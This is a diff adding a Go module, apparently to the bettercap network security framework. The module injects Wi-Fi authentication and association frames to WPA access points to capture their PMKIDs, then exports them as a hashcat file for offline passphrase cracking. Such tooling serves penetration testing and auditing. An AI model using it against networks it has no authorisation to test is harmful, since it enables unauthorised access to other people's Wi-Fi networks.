@@ -0,0 +1,170 @@
+package modules
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"sort"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/core"
+	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
+)
+
+const (
+	// association attempts for every access point
+	wifiAssocAttempts = 3
+	// how long to wait for the first EAPOL frame after each attempt
+	wifiAssocWait = time.Second
+)
+
+// wifiAssoc keeps track of the access points we sent association
+// requests to.
+type wifiAssoc struct {
+	sync.Mutex
+	aps map[string]bool
+}
+
+func newWiFiAssoc() *wifiAssoc {
+	return &wifiAssoc{
+		aps: make(map[string]bool),
+	}
+}
+
+func (a *wifiAssoc) Add(ap net.HardwareAddr) {
+	a.Lock()
+	defer a.Unlock()
+	a.aps[ap.String()] = true
+}
+
+func (a *wifiAssoc) Has(ap net.HardwareAddr) bool {
+	a.Lock()
+	defer a.Unlock()
+	return a.aps[ap.String()]
+}
+
+// HasPMKID is true if the PMKID of the access point has been saved.
+func (h *wifiHandshakes) HasPMKID(ap net.HardwareAddr) bool {
+	h.Lock()
+	defer h.Unlock()
+	return h.saved[hashcatKey(hashcatPMKID, hashcatMac(ap))]
+}
+
+// waitPMKID returns as soon as the PMKID of the access point has been
+// captured or after the timeout.
+func (w *WiFiModule) waitPMKID(ap net.HardwareAddr, timeout time.Duration) bool {
+	for deadline := time.Now().Add(timeout); time.Now().Before(deadline) && w.Running(); {
+		if w.handshakes.HasPMKID(ap) {
+			return true
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	return w.handshakes.HasPMKID(ap)
+}
+
+func (w *WiFiModule) sendAssocPackets(ap *network.AccessPoint) {
+	station := w.Session.Interface.HW
+	for attempt := 0; attempt < wifiAssocAttempts && w.Running(); attempt++ {
+		seq := uint16(attempt * 2)
+		if err, pkt := packets.NewDot11Auth(station, ap.HW, seq); err != nil {
+			log.Error("Could not create authentication packet: %s", err)
+			return
+		} else {
+			w.injectPacket(pkt)
+		}
+
+		if err, pkt := packets.NewDot11AssociationRequest(station, ap.HW, ap.ESSID(), seq+1); err != nil {
+			log.Error("Could not create association request packet: %s", err)
+			return
+		} else {
+			w.injectPacket(pkt)
+		}
+
+		if w.waitPMKID(ap.HW, wifiAssocWait) {
+			return
+		}
+	}
+}
+
+func (w *WiFiModule) startAssoc(to net.HardwareAddr) error {
+	if err := w.Session.CheckSafe("wifi.assoc", w.Session.Interface.Name()); err != nil {
+		return err
+	} else if !w.Running() {
+		// the PMKIDs are captured by the recon loop
+		return fmt.Errorf("wifi.recon must be running to capture the PMKIDs.")
+	}
+
+	w.writes.Add(1)
+	defer w.writes.Done()
+
+	toAssoc := make([]*network.AccessPoint, 0)
+	isBcast := network.IsBroadcastMac(to)
+	for _, ap := range w.Session.WiFi.List() {
+		if !isBcast && ap.HW.String() != to.String() {
+			continue
+		} else if !strings.HasPrefix(ap.Encryption, "WPA") || ap.ESSID() == "<hidden>" {
+			// both the association request and the hash need the ESSID
+			continue
+		} else if isBcast && w.handshakes.HasPMKID(ap.HW) {
+			continue
+		}
+		toAssoc = append(toAssoc, ap)
+	}
+
+	if len(toAssoc) == 0 {
+		if isBcast {
+			return fmt.Errorf("No WPA access point with a known ESSID to associate to.")
+		}
+		return fmt.Errorf("%s is an unknown BSSID or not a WPA access point with a known ESSID.", to.String())
+	}
+
+	// sort by channel so we do the minimum amount of hops possible
+	sort.Slice(toAssoc, func(i, j int) bool {
+		return toAssoc[i].Channel() < toAssoc[j].Channel()
+	})
+
+	for _, ap := range toAssoc {
+		if w.Running() {
+			log.Info("sending association request to AP %s (channel %d)", ap.ESSID(), ap.Channel())
+			w.assoc.Add(ap.HW)
+			w.onChannel(ap.Channel(), func() {
+				w.sendAssocPackets(ap)
+			})
+		}
+	}
+
+	return nil
+}
+
+// exportPMKIDs saves the PMKIDs captured during this session to a
+// hashcat 22000 file.
+func (w *WiFiModule) exportPMKIDs(fileName string) error {
+	hashes := w.handshakes.Captured(hashcatPMKID)
+	if len(hashes) == 0 {
+		return fmt.Errorf("No PMKID has been captured yet.")
+	}
+
+	fileName, err := core.ExpandPath(fileName)
+	if err != nil {
+		return err
+	}
+
+	file, err := os.Create(fileName)
+	if err != nil {
+		return err
+	}
+	defer file.Close()
+
+	for _, hash := range hashes {
+		if _, err := file.WriteString(hash.Line + "\n"); err != nil {
+			return err
+		}
+	}
+
+	log.Info("Saved %d PMKIDs to %s.", len(hashes), fileName)
+	return nil
+}